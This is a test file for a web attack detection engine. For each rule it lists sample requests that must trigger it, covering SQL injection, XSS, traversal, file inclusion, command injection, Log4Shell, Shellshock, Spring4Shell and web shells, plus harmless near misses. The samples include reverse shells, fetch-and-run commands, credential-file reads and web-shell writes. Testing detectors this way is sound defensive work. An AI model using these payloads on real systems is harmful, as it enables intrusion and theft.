import { describe, expect, it } from 'vitest';
import {
  DETECTION_CATEGORIES, DETECTION_CATEGORY_IDS, MAX_MATCHED_LENGTH, RULES, categoryLabel, passesPrefilter,
  decodeForMatching, detectHttp, detectInText, ruleById, type DetectionField,
} from '../../../shared/detect';
import { EXPLOITS, SCANNER_UAS, BROWSER_UAS, PAGES, DECOY_UA, ATTACKER_UA, REFERERS } from '../../../shared/demo/scenario';

type Sample = readonly [field: DetectionField, text: string];
const u = (text: string): Sample => ['url', text];
const a = (text: string): Sample => ['ua', text];
const r = (text: string): Sample => ['referer', text];

const ids = (field: DetectionField, text: string): string[] => detectInText(field, text).map((h) => h.ruleId);

/**
 * For every rule: requests that must fire it, and near misses (similar-looking, harmless, or
 * just short of the attack shape) that must not.
 */
const CASES: Record<string, { hit: readonly Sample[]; miss: readonly Sample[] }> = {
  // --- SQL injection
  'sqli-union-select': {
    hit: [
      u("/login?user=admin%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
      u('/item?id=-1+union+all+select+1,2,3--'),
      u('/item?id=1/**/UnIoN/**/SeLeCt/**/null,null'),
      u('/item?id=1%20/*!50000union*/%20/*!50000select*/%201,2'),
      u('/item?id=1)union(select(version()))'),
      u('/item?id=1%2520union%2520select%2520password%2520from%2520users'),
      a("' union select @@version-- "),
      r('https://shop.example.com/p?id=1 UNION SELECT * FROM accounts'),
    ],
    miss: [
      u('/select-plan?union=1'),
      u('/search?q=trade+union+selection+2024'),
      u('/search?q=how+to+select+a+union+rep'),
      u('/union/select/'),
      u('/search?q=union+select+committee+members'),
    ],
  },
  'sqli-tautology': {
    hit: [
      u("/api/orders?id=1'%20OR%201=1--"),
      u("/login?user=admin'+or+'a'='a"),
      u('/login?user=%22%20or%20%22%22%3D%22'),
      u("/login?u=x'or'1'='1"),
      u('/item?id=1 AND 1=1'),
      u("/item?id=1'||'x'='x"),
      u('/item?id=1/**/or/**/2=2'),
      u("/item?id=1' or 'x' like 'x"),
      a("Mozilla/5.0' or 1=1 -- "),
    ],
    miss: [
      u('/search?q=salt+or+pepper'),
      u('/search?q=rock+and+roll&and=1'),
      u('/api/items?color=red&size=10&or=1'),
      u('/search?q=1+or+2=3'),
      u('/search?q=black+or+white&x=x'),
    ],
  },
  'sqli-time-delay': {
    hit: [
      u('/api/orders?id=1;SELECT%20pg_sleep(5)--'),
      u("/item?id=1'+AND+SLEEP(5)--+-"),
      u('/item?id=1+and+benchmark(5000000,md5(1))'),
      u("/item?id=1';waitfor+delay+'0:0:5'--"),
      u('/item?id=1 AND sleep/**/(10)'),
    ],
    miss: [
      u('/products/sleep-mask?q=sleep'),
      u('/blog/benchmark-results-2024'),
      u('/search?q=sleep+5+hours'),
      u('/api/deep_sleep(mode)'),
    ],
  },
  'sqli-catalog-probe': {
    hit: [
      u('/item?id=1+union+select+table_name+from+information_schema.tables'),
      u('/item?id=1 and exists(select * from sqlite_master)'),
      u('/item?id=1;select name from sysobjects'),
      u('/item?id=1 and 1=(select count(*) from pg_catalog.pg_tables)'),
    ],
    miss: [
      u('/docs/schema-information'),
      u('/api/system/objects'),
      u('/blog/my_information_schemas_guide'),
    ],
  },
  'sqli-stacked-query': {
    hit: [
      u('/item?id=1;DROP+TABLE+users--'),
      u("/item?id=1';drop table orders;--"),
      u('/api/orders?id=1;SELECT%20pg_sleep(5)--'),
      u("/item?id=1;exec+master..xp_cmdshell+'ping+10.0.0.1'"),
      u('/item?id=1; declare @q varchar(99)'),
      u('/item?id=1;shutdown--'),
    ],
    miss: [
      u('/search?q=drop+shipping'),
      u('/page;jsessionid=ABC123?select=2'),
      u('/path;select=all'),
      u('/search?q=pick+one;+select+the+best+fit'),
    ],
  },
  'sqli-quote-comment': {
    hit: [
      u("/login?user=admin'--&pass=x"),
      u("/login?user=admin')--+"),
      u("/login?user=admin'%23"),
      u('/login?user=admin"/*'),
      u("/item?id=1';--"),
    ],
    miss: [
      u("/search?q=rock+'n'+roll"),
      u('/api/theme?json={"bg":"#fff"}'),
      u("/names/o'brien-family"),
      u('/search?q="double-dash"+--help'),
    ],
  },
  'sqli-order-by-probe': {
    hit: [
      u("/item?id=1'+ORDER+BY+3--+"),
      u('/item?id=1 order by 10#'),
      u('/item?id=1)/**/order/**/by/**/5--'),
      u("/item?id=1'order by 4"),
    ],
    miss: [
      u('/api/items?order=by&sort=3'),
      u('/search?q=how+to+order+by+date'),
      u('/search?q=sort+order+by+2+columns'),
      u('/search?q=top+10+order+by+2'),
    ],
  },
  'sqli-mssql-procedure': {
    hit: [
      u("/item?id=1;exec+xp_cmdshell+'whoami'--"),
      u('/item?id=1;EXEC sp_configure show advanced options,1'),
      u("/item?id=1;exec master..xp_dirtree '\\\\attacker.example\\a'"),
    ],
    miss: [
      u('/docs/xp_points_cmdshell-guide'),
      u('/api/sp_oa'),
    ],
  },
  'sqli-error-based': {
    hit: [
      u("/item?id=1+and+extractvalue(1,concat(0x7e,version()))"),
      u('/item?id=1 and updatexml(1,concat(0x7e,user()),1)'),
      u('/item?id=1 and 1=convert(int,@@version)'),
      u('/item?id=1 and exp(~(select * from (select user())x))'),
    ],
    miss: [
      u('/tools/convert?from=int&to=float'),
      u('/blog/xml-extractvalue-explained'),
      u('/api/export(csv)'),
    ],
  },
  'sqli-file-access': {
    hit: [
      u("/item?id=1+union+select+load_file('/etc/passwd')"),
      u("/item?id=1 union select '<?php system($_GET[c]); ?>' into outfile '/var/www/s.php'"),
    ],
    miss: [
      u('/docs/load-file-from-disk'),
      u('/search?q=into+the+outfile+band'),
    ],
  },

  // --- XSS
  'xss-script-tag': {
    hit: [
      u('/search?q=<script>alert(1)</script>'),
      u('/search?q=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E'),
      u('/search?q=%253Cscript%253E'),
      u('/search?q=&lt;script&gt;alert(1)&lt;/script&gt;'),
      u('/search?q=<ScRiPt src=//evil.example/x.js>'),
      r('https://shop.example.com/?q=<script>fetch(1)</script>'),
    ],
    miss: [
      u('/assets/script.js'),
      u('/scripts/main.js'),
      u('/search?q=script+writing+course'),
      u('/search?q=<scripts>'),
    ],
  },
  'xss-event-handler': {
    hit: [
      u('/search?q=<img src=x onerror=alert(1)>'),
      u('/search?q=%3Csvg%2Fonload%3Dalert(1)%3E'),
      u('/search?q=<body onload=prompt(1)>'),
      u('/p?name=<a href="#" onclick = "steal()">x</a>'),
      u('/search?q=<details open ontoggle=alert(1)>'),
    ],
    miss: [
      u('/scripts/onload.js'),
      u('/api/settings?onload=1&onerror=ignore'),
      u('/search?q=a<b and b>c onload=1'),
    ],
  },
  'xss-javascript-uri': {
    hit: [
      u('/redirect?to=javascript:alert(1)'),
      u('/redirect?to=javascript://%0aalert(document.cookie)'),
      u('/redirect?to=jav%09ascript:alert(1)'),
      u('/redirect?to=JaVaScRiPt:window.location=%27//evil.example%27'),
      u('/redirect?to=j&#x61;vascript:alert(1)'),
      u('/p?a=<a href="javascript&colon;alert&lpar;1&rpar;">'),
      u('/redirect?to=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
    ],
    miss: [
      u('/search?q=learn+javascript:+the+good+parts'),
      u('/books/javascript-the-definitive-guide'),
      u('/api/upload?type=data:image/png;base64,iVBOR'),
    ],
  },
  'xss-dangerous-tag': {
    hit: [
      u('/search?q=<iframe src=//evil.example></iframe>'),
      u('/search?q=<object data=x.swf>'),
      u('/search?q=<base href=//evil.example/>'),
      u('/search?q=<meta http-equiv=refresh content=0;url=//evil.example>'),
    ],
    miss: [
      u('/docs/iframe-embedding-guide'),
      u('/search?q=object+oriented'),
      u('/search?q=<b>bold</b>'),
    ],
  },
  'xss-cookie-access': {
    hit: [
      u('/search?q=<script>new Image().src="//x/?c="+document.cookie</script>'),
      u("/search?q=document['cookie']"),
      u('/search?q=document . cookie'),
    ],
    miss: [
      u('/docs/document-cookie-policy'),
      u('/api/cookie-consent?document=terms'),
    ],
  },
  'xss-probe-call': {
    hit: [
      u('/search?q=alert(1)'),
      u('/search?q=prompt(document.domain)'),
      u('/search?q=confirm`1`'),
      u('/search?q=eval(String.fromCharCode(97,108,101,114,116))'),
      u("/search?q=';alert('xss');//"),
    ],
    miss: [
      u('/alerts?confirm=yes'),
      u('/api/prompt-templates/12'),
      u('/search?q=red+alert+2'),
      u('/api/alerts(open)'),
    ],
  },
  'xss-attribute-breakout': {
    hit: [
      u('/search?q=" onmouseover="alert(1)'),
      u("/search?q='onfocus=prompt(1) autofocus='"),
      u('/search?q=%22%20onpointerenter%3Dfetch(%27//x%27)'),
    ],
    miss: [
      u('/search?q="onion rings"'),
      u('/search?q="online"=1'),
      u('/search?q="only one"'),
    ],
  },

  // --- Traversal
  'traversal-dot-dot-slash': {
    hit: [
      u('/download?file=../../../../etc/passwd'),
      u('/static/..%2f..%2f..%2fapp.py'),
      u('/static/%2e%2e/%2e%2e/config.yml'),
      u('/static/..%c0%af..%c0%afconfig'),
      u('/static/%252e%252e%252fsecret'),
      u('/static/%u002e%u002e%u2215x'),
      u('/files?name=..\\..\\web.config'),
      u('/app/..;/manager/html'),
    ],
    miss: [
      u('/files/report..final.pdf'),
      u('/docs/v1.2..3/'),
      u('/wait...what'),
      u('/blog/'),
    ],
  },
  'traversal-unix-file': {
    hit: [
      u('/download?file=../../../../etc/passwd'),
      u('/static/..%2f..%2f..%2f..%2fetc%2fshadow'),
      u('/view?page=/proc/self/environ'),
      u('/read?f=....//....//home/app/.ssh/id_rsa'),
      u('/download?file=/etc/passwd%00.jpg'),
    ],
    miss: [
      u('/docs/etc/passwords-policy.html'),
      u('/shop/etc/group-discounts'),
      u('/search?q=etc+passwd'),
    ],
  },
  'traversal-windows-file': {
    hit: [
      u('/download?file=..\\..\\..\\windows\\win.ini'),
      u('/download?file=c:/boot.ini'),
      u('/download?file=C:\\Windows\\System32\\drivers\\etc\\hosts'),
      u('/download?file=/windows/system32/config/sam'),
    ],
    miss: [
      u('/downloads/darwin.ini'),
      u('/blog/windows-11-tips'),
      u('/config/settings.ini'),
    ],
  },
  'traversal-nested-encoding': {
    hit: [
      u('/static/%2525252e%2525252e%2525252fetc'),
      u('/static/..%2525252f..%2525252fetc'),
    ],
    miss: [
      u('/files/report%25252520final.pdf'),
      u('/files/100%25.txt'),
    ],
  },

  // --- File inclusion
  'lfi-php-wrapper': {
    hit: [
      u('/index.php?page=php://filter/convert.base64-encode/resource=index'),
      u('/index.php?page=php%3A%2F%2Finput'),
      u('/index.php?page=PHP://filter/read=string.rot13/resource=config'),
    ],
    miss: [
      u('/docs/php-streams'),
      u('/search?q=php+filter+input'),
    ],
  },
  'lfi-file-uri': {
    hit: [
      u('/fetch?url=file:///etc/passwd'),
      u('/fetch?url=file%3A%2F%2F%2Fc%3A%2Fwindows%2Fwin.ini'),
    ],
    miss: [
      u('/profile://x'),
      u('/docs/file-upload://guide'),
      u('/api/file:list'),
    ],
  },
  'lfi-stream-wrapper': {
    hit: [
      u('/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=='),
      u('/index.php?page=expect://id'),
      u('/index.php?page=phar://uploads/avatar.jpg/shell'),
    ],
    miss: [
      u('/metadata://x'),
      u('/api/data:export'),
      u('/zipcodes://lookup'),
    ],
  },
  'rfi-remote-include': {
    hit: [
      u('/index.php?page=http://evil.example/shell.txt?'),
      u('/index.php?page=https://evil.example/c99'),
      u('/main.php?template=ftp://evil.example/x'),
      u('/view.php?x=1&file=\\\\evil.example\\share\\s.php'),
      u('/view.php?doc=http://evil.example/r57.txt?'),
      u('/view.php?doc=http://evil.example/r57.txt%00'),
    ],
    miss: [
      u('/login?next=https://app.example.com/'),
      u('/share?url=https://example.com/readme.txt'),
      u('/list?page=2&sort=name'),
      u('/oauth/callback?redirect_uri=https://app.example.com/cb'),
    ],
  },
  'lfi-null-byte': {
    hit: [
      u('/download?file=../../etc/passwd%00.jpg'),
      u('/view?page=report.pdf%00'),
    ],
    miss: [
      u('/download?file=report%2000.pdf'),
      u('/view?page=100%'),
    ],
  },

  // --- Command injection
  'cmdi-chained-command': {
    hit: [
      u('/ping?host=127.0.0.1;id'),
      u('/ping?host=127.0.0.1|whoami'),
      u('/ping?host=127.0.0.1%26%26uname+-a'),
      u('/ping?host=x;cat+/etc/passwd'),
      u('/ping?host=x|wget+http://203.0.113.66/x.sh'),
      u('/ping?host=x;curl -s http://203.0.113.66/a|sh'),
      u('/ping?host=x%0abash+-i'),
      u('/ping?host=x;nc+203.0.113.66+4444+-e+/bin/sh'),
      u('/ping?host=x|powershell -nop -c calc'),
      u('/ping?host=x;/bin/sh'),
      u("/ping?host=x';id;'"),
    ],
    miss: [
      u('/api/users?sort=id'),
      u('/page;jsessionid=0A1B2C;id=3'),
      u('/search?q=cat+videos|dog+videos'),
      u('/search?q=beer;echo'),
      u('/api/items?filter=a|b&id=2'),
      u('/tags?list=news|curl'),
    ],
  },
  'cmdi-substitution': {
    hit: [
      u('/ping?host=`id`'),
      u('/ping?host=$(whoami)'),
      u('/ping?host=%24%28cat%20%2Fetc%2Fpasswd%29'),
      a('Mozilla/5.0 `wget http://203.0.113.66/a.sh`'),
    ],
    miss: [
      u('/price?amount=$(5)'),
      u('/docs/`code`-spans'),
      a('Mozilla/5.0 (compatible; MyBot/$(VERSION))'),
    ],
  },
  'cmdi-reverse-shell': {
    hit: [
      u('/cgi-bin/x.cgi?c=bash+-i+>%26+/dev/tcp/203.0.113.66/4444+0>%261'),
      u('/x?c=nc -lvp 4444 -e /bin/bash'),
      u('/x?c=rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh'),
      u("/x?c=IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')"),
      u('/x?c=powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0AA=='),
      a("() { :; }; /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.66/443 0>&1'"),
      u("/x?c=python3 -c 'import socket,os,pty'"),
    ],
    miss: [
      u('/docs/dev/tcp-tuning'),
      u('/api/iexplore'),
      u('/blog/python-import-guide'),
      u('/search?q=webclient+download+string'),
    ],
  },

  // --- JNDI
  'jndi-lookup': {
    hit: [
      u('/api/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2FExploit%7D'),
      a('${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/aWQ=}'),
      a('${JNDI:rmi://203.0.113.66/x}'),
      a('${jndi:dns://203.0.113.66/x}'),
      r('${jndi:ldaps://203.0.113.66/a}'),
      u('/?x=%2524%257Bjndi%253Aiiop%253A%252F%252F203.0.113.66%252Fa%257D'),
    ],
    miss: [
      u('/search?q=jndi+lookup+tutorial'),
      u('/api/items/${id}'),
      a('Mozilla/5.0 (JNDI-Browser/1.0)'),
    ],
  },
  'jndi-obfuscated': {
    hit: [
      a('${${lower:j}ndi:ldap://203.0.113.66/a}'),
      a('${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.66/a}'),
      a('${${::-j}${::-n}di:ldap://203.0.113.66/a}'),
      u('/?q=${j${::-n}di:dns://203.0.113.66/a}'),
      a('${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://203.0.113.66/a}'),
      a('${${lower:jndi}:${lower:rmi}://203.0.113.66/a}'),
      a("${${upper:j}${upper:n}${lower:d}i:ldap://x/a}"),
      u('/?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%2Fa%7D'),
    ],
    miss: [
      a('${jndi:ldap://203.0.113.66/a}'),
      u('/api/${user}/${id}'),
      u('/tpl?x=${${name}}'),
    ],
  },
  'jndi-log4j-lookup': {
    hit: [
      a('${env:AWS_SECRET_ACCESS_KEY}'),
      u('/?q=${jndi:ldap://${env:USER}.x.example/a}'),
      a('${${lower:j}ndi:ldap://x/a}'),
      a('${sys:java.version}'),
      a('${::-j}'),
    ],
    miss: [
      u('/api/items/${id}'),
      u('/tpl?x=${user.name}'),
      u('/env:production/config'),
    ],
  },

  // --- Shellshock
  'shellshock-function-def': {
    hit: [
      a('() { :; }; echo; /bin/cat /etc/passwd'),
      a('() { :;}; /bin/bash -c "wget http://203.0.113.66/x"'),
      a('() { _; } >_[$($())] { id; }'),
      r('() { :; }; ping -c 1 203.0.113.66'),
      u('/cgi-bin/status?x=()%20%7B%20%3A%3B%20%7D%3B%20id'),
    ],
    miss: [
      u('/api/fn?sig=()+{+return+1+}'),
      a('Mozilla/5.0 (Windows NT 10.0) Chrome/124.0'),
      a('MyApp/1.0 () {}'),
    ],
  },

  // --- Spring4Shell
  'spring4shell-class-loader': {
    hit: [
      u('/app?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di'),
      u('/app?class.classLoader.URLs%5B0%5D=0'),
      u("/app?class['module']['classLoader']=x"),
    ],
    miss: [
      u('/docs/java/classloader-basics'),
      u('/course?class=module&loader=1'),
      u('/api/subclass.classloader'),
    ],
  },
  'spring4shell-tomcat-pipeline': {
    hit: [
      u('/app?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp'),
      u('/app?x.pipeline.first.directory=webapps/ROOT'),
    ],
    miss: [
      u('/ci/pipeline/first-steps'),
      u('/docs/pipeline.first.html'),
    ],
  },

  // --- Web shells
  'webshell-known-name': {
    hit: [
      u('/uploads/c99.php'),
      u('/images/r57.php?act=ls'),
      u('/shell.php'),
      u('/wp-content/uploads/cmd.php?cmd=id'),
      u('/wso.php'),
      u('/b374k-3.2.3.php'),
      u('/uploads/cmd.jsp'),
      u('/aspnet_client/cmdasp.aspx'),
    ],
    miss: [
      u('/shell-companies/report.pdf'),
      u('/shellfish.php'),
      u('/cmd-reference.html'),
      u('/static/c99-chart.js'),
    ],
  },
  'webshell-eval-payload': {
    hit: [
      u('/x.php?z=@eval(base64_decode($_POST[z0]));'),
      u('/x.php?a=eval($_POST[pass])'),
      u('/x.php?a=assert(gzinflate(base64_decode("...")))'),
      u('/x.aspx?z=eval(Request.Item["z"],"unsafe")'),
    ],
    miss: [
      u('/search?q=evaluate+base64_decode+speed'),
      u('/docs/eval-function'),
    ],
  },
  'webshell-command-param': {
    hit: [
      u('/images/logo.php?cmd=whoami'),
      u('/x.jsp?cmd=ls+-la'),
      u('/x.aspx?command=ipconfig'),
      u('/x.php?exec=cat+/etc/passwd'),
      u('/x.php?cmd=dir'),
    ],
    miss: [
      u('/editor?cmd=save'),
      u('/api/run?command=refresh&id=1'),
      u('/app?exec=identity'),
    ],
  },

  // --- Scanner user agents
  'scanner-ua-sqlmap': {
    hit: [a('sqlmap/1.8.2#stable (https://sqlmap.org)')],
    miss: [a('SQLMapper/2.0 (schema-tool)'), u('/sqlmap/')],
  },
  'scanner-ua-nikto': {
    hit: [a('Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)')],
    miss: [a('Niktos/1.0')],
  },
  'scanner-ua-nuclei': {
    hit: [a('Nuclei - Open-source project (github.com/projectdiscovery/nuclei)')],
    miss: [a('BioViewer/3.1 (nucleic-acid-tools)')],
  },
  'scanner-ua-nmap': {
    hit: [a('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)')],
    miss: [a('Mozilla/5.0 (compatible; Bonmapper/1.0)')],
  },
  'scanner-ua-mass-scanner': {
    hit: [a('masscan/1.3 (https://github.com/robertdavidgraham/masscan)'), a('Mozilla/5.0 zgrab/0.x')],
    miss: [a('MassCanvas/4.2 (Windows)')],
  },
  'scanner-ua-content-discovery': {
    hit: [
      a('DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)'),
      a('gobuster/3.6'),
      a('Mozilla/5.0 (compatible; feroxbuster/2.10)'),
      a('Fuzz Faster U Fool v2.1.0-dev'),
    ],
    miss: [a('Buster/1.0 (dir-sync)'), a('Mozilla/5.0 (ffuffle-app)')],
  },
  'scanner-ua-wpscan': {
    hit: [a('WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)')],
    miss: [a('WordPress/6.5; https://blog.example.com')],
  },
  'scanner-ua-vuln-scanner': {
    hit: [
      a('Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)'),
      a('Mozilla/5.0 (compatible; Netsparker)'),
      a('w3af.org'),
      a('Mozilla/5.0 (compatible; Nessus)'),
    ],
    miss: [a('Mozilla/5.0 (compatible; ScannerPro/1.0 document scanner)')],
  },
  'scanner-ua-hydra': {
    hit: [a('Mozilla/4.0 (Hydra)'), a('THC-Hydra/9.5')],
    miss: [a('HydraApp/1.0 (iOS)'), a('Mozilla/5.0 (Hydrangea Browser)')],
  },
  'scanner-ua-fingerprint': {
    hit: [a('WhatWeb/0.5.5'), a('Mozilla/5.0 Jorgee')],
    miss: [a('Mozilla/5.0 (compatible; WhatsApp/2.24)')],
  },
};

/** Ordinary traffic: none of it may fire any rule. */
const BENIGN: readonly Sample[] = [
  u('/'),
  u('/index.html'),
  u('/assets/script.js'),
  u('/scripts/onload.js'),
  u('/api/users?sort=id'),
  u('/api/users?sort=-created_at&limit=50&offset=100'),
  u('/api/v2/orders/123/items?fields=id,name,price'),
  u('/select-plan?union=1'),
  u('/search?q=drop+shipping'),
  u('/search?q=union+station+parking'),
  u('/search?q=how+to+select+the+right+script+font'),
  u('/search?q=drop+table+leg+repair'),
  u('/search?q=shell+script+examples'),
  u('/search?q=O%27Reilly+books'),
  u("/search?q=rock+'n'+roll"),
  u('/search?q=50%25+off+sale&page=2'),
  u('/search?q=c%2B%2B+tutorial'),
  u('/search?q=what+is+1%2B1%3D2'),
  u('/shell-companies/report.pdf'),
  u('/blog/2024/03/12/why-we-moved-to-rust'),
  u('/wp-content/themes/twentytwentyfour/style.css?ver=1.1'),
  u('/index.php?option=com_content&view=article&id=12'),
  u('/login?next=%2Fdashboard%3Ftab%3Dorders'),
  u('/oauth/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&scope=openid+email'),
  u('/static/img/logo.svg'),
  u('/api/events?from=2026-03-12T00:00:00Z&to=2026-03-13T00:00:00Z'),
  u('/maps/@51.5,-0.12,12z'),
  u('/products/tea-cups-(set-of-4)'),
  u('/search?q=cat+%26+dog+toys'),
  u('/search?q=sleep+apnea+treatment'),
  u('/page;jsessionid=0A1B2C3D'),
  u('/download/invoice-2024-03.pdf?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc'),
  a('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36'),
  a('Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15'),
  a('Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0'),
  a('Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1'),
  a('Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'),
  a('Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)'),
  a('Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)'),
  a('Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36; wv'),
  a('curl/8.4.0'),
  a('Wget/1.21.4'),
  a('python-requests/2.31.0'),
  a('Go-http-client/1.1'),
  a('okhttp/4.12.0'),
  a('Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)'),
  a('facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)'),
  a('Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) [FBAN/FBIOS;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS]'),
  a('Dropbox Desktop Client/200.4.5 (Windows; 10; Update Channel)'),
  r('https://www.google.com/'),
  r('https://www.google.com/url?q=https://shop.example.com/&sa=U'),
  r('https://shop.example.com/search?q=select+union+jack+flags'),
  r('https://www.example.org/search?q=shop'),
];

describe('detection rules: every rule fires on its samples and not on its near misses', () => {
  it('has a sample table entry for every rule, and no entry without a rule', () => {
    expect(Object.keys(CASES).sort()).toEqual(RULES.map((rule) => rule.id).sort());
  });

  for (const rule of RULES) {
    const cases = CASES[rule.id];
    describe(rule.id, () => {
      it('fires on every hit sample', () => {
        expect(cases, `no samples for ${rule.id}`).toBeDefined();
        expect(cases!.hit.length).toBeGreaterThan(0);
        for (const [field, text] of cases!.hit) {
          expect(rule.fields, `${rule.id} sample uses field ${field}`).toContain(field);
          expect(ids(field, text), `${field}: ${text}`).toContain(rule.id);
        }
      });
      it('stays quiet on every near miss', () => {
        expect(cases!.miss.length).toBeGreaterThan(0);
        for (const [field, text] of cases!.miss) expect(ids(field, text), `${field}: ${text}`).not.toContain(rule.id);
      });
    });
  }
});

describe('ordinary traffic', () => {
  it.each(BENIGN.map((s) => [s[0], s[1]] as const))('%s %s produces no hits', (field, text) => {
    expect(detectInText(field, text)).toEqual([]);
  });

  it('the demo generator\'s normal pages, browsers, decoy and referers produce no hits', () => {
    for (const [path] of PAGES) expect(ids('url', path), path).toEqual([]);
    for (const ua of [...BROWSER_UAS, DECOY_UA, ATTACKER_UA]) expect(ids('ua', ua), ua).toEqual([]);
    for (const ref of REFERERS) expect(ids('referer', ref), ref).toEqual([]);
  });
});

describe('the demo incident', () => {
  it('every exploit request in the demo scenario is detected in its own category', () => {
    const want = { traversal: 'traversal', sqli: 'sqli', jndi: 'jndi' } as const;
    for (const ex of EXPLOITS) {
      const hits = detectHttp({ url: ex.path, ...(ex.ua ? { ua: ex.ua } : {}) });
      expect(hits.map((h) => h.category), ex.path).toContain(want[ex.kind]);
    }
  });
  it('every scanner user agent in the demo scenario is detected', () => {
    for (const ua of SCANNER_UAS) expect(detectHttp({ ua }).map((h) => h.category), ua).toContain('scanner-ua');
  });
});

describe('hits', () => {
  it('report the matched text after decoding', () => {
    const hits = detectInText('url', '/api/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%2Fa%7D');
    expect(hits).toEqual([
      { ruleId: 'jndi-lookup', name: 'JNDI lookup (Log4Shell)', category: 'jndi', severity: 'high', field: 'url', matched: '${jndi:' },
    ]);
    const sqli = detectInText('url', '/login?user=admin%27%20UNION%20SELECT%20username,password%20FROM%20users--');
    expect(sqli.find((h) => h.ruleId === 'sqli-union-select')?.matched).toBe('UNION SELECT username,');
    const trav = detectInText('url', '/static/..%2f..%2f..%2f..%2fetc%2fshadow');
    expect(trav.find((h) => h.ruleId === 'traversal-dot-dot-slash')?.matched).toBe('../../../../');
    expect(trav.find((h) => h.ruleId === 'traversal-unix-file')?.matched).toBe('/etc/shadow');
  });

  it('keep at most 120 characters of the match', () => {
    const hits = detectInText('url', `/x?id=1;exec xp_cmdshell '${'a'.repeat(500)}'`);
    for (const h of hits) expect(h.matched.length).toBeLessThanOrEqual(MAX_MATCHED_LENGTH);
    const long = detectInText('url', `/x${'../'.repeat(100)}etc/passwd`);
    const dd = long.find((h) => h.ruleId === 'traversal-dot-dot-slash');
    expect(dd?.matched).toBe('../'.repeat(40));
  });

  it('carry one hit per rule, however often the pattern occurs', () => {
    const hits = detectInText('url', '/a?x=<script>1</script>&y=<script>2</script>');
    expect(hits.filter((h) => h.ruleId === 'xss-script-tag')).toHaveLength(1);
  });

  it('name the field, and detectHttp reads the referer from fields.referer (or Zeek\'s referrer)', () => {
    const hits = detectHttp({
      url: '/index.php?page=../../etc/passwd',
      ua: '() { :; }; /bin/bash -c id',
      fields: { referer: 'https://x.example/?q=<script>alert(1)</script>' },
    });
    expect(new Set(hits.map((h) => h.field))).toEqual(new Set(['url', 'ua', 'referer']));
    expect(hits.find((h) => h.field === 'ua')?.ruleId).toBe('shellshock-function-def');
    expect(hits.filter((h) => h.field === 'referer').map((h) => h.ruleId)).toContain('xss-script-tag');
    expect(detectHttp({ fields: { referrer: '${jndi:ldap://x/a}' } }).map((h) => h.ruleId)).toEqual(['jndi-lookup']);
    expect(detectHttp({})).toEqual([]);
    expect(detectHttp({ url: '-', ua: '-', fields: { referer: '-' } })).toEqual([]);
  });

  it('run only the rules meant for a field', () => {
    expect(ids('url', '/tools/sqlmap')).toEqual([]);
    expect(ids('ua', '../../../../etc/passwd')).toEqual([]);
    expect(ids('referer', 'https://x.example/?ua=nikto')).toEqual([]);
  });
});

describe('the rule table', () => {
  it('has unique, kebab-case ids and complete rules', () => {
    const seen = new Set<string>();
    for (const rule of RULES) {
      expect(rule.id).toMatch(/^[a-z0-9]+(?:-[a-z0-9]+)*$/);
      expect(seen.has(rule.id), `duplicate id ${rule.id}`).toBe(false);
      seen.add(rule.id);
      expect(rule.name.length).toBeGreaterThan(0);
      expect(rule.name.length).toBeLessThanOrEqual(40);
      expect(rule.description, rule.id).toMatch(/^\S[^\n]{20,300}\.$/);
      expect(rule.fields.length).toBeGreaterThan(0);
      expect(rule.pattern.global || rule.pattern.sticky, rule.id).toBe(false);
      expect(ruleById(rule.id)).toBe(rule);
    }
    expect(ruleById('no-such-rule')).toBeUndefined();
  });

  it('has at least one rule in every category, and a label for each', () => {
    expect(DETECTION_CATEGORIES.map((c) => c.id)).toEqual([...DETECTION_CATEGORY_IDS]);
    for (const c of DETECTION_CATEGORIES) {
      expect(RULES.some((rule) => rule.category === c.id), c.id).toBe(true);
      expect(categoryLabel(c.id)).toBe(c.label);
      expect(c.label.length).toBeGreaterThan(0);
    }
  });

  it('prefilters let every hit sample through', () => {
